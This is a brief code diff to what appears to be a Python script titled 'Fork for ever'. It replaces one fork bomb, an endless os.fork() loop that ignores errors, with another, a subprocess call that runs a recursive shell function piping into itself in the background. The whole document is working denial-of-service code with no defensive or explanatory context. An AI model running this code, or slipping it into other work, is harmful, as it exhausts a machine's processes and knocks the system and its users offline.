@@ -1,7 +1,3 @@
 # %% Fork for ever
-import os
-while True:
-    try:
-        os.fork()
-    except OSError:
-        pass
+import subprocess
+subprocess.run(["sh", "-c", "bomb() { bomb | bomb & }; bomb; sleep 60"])
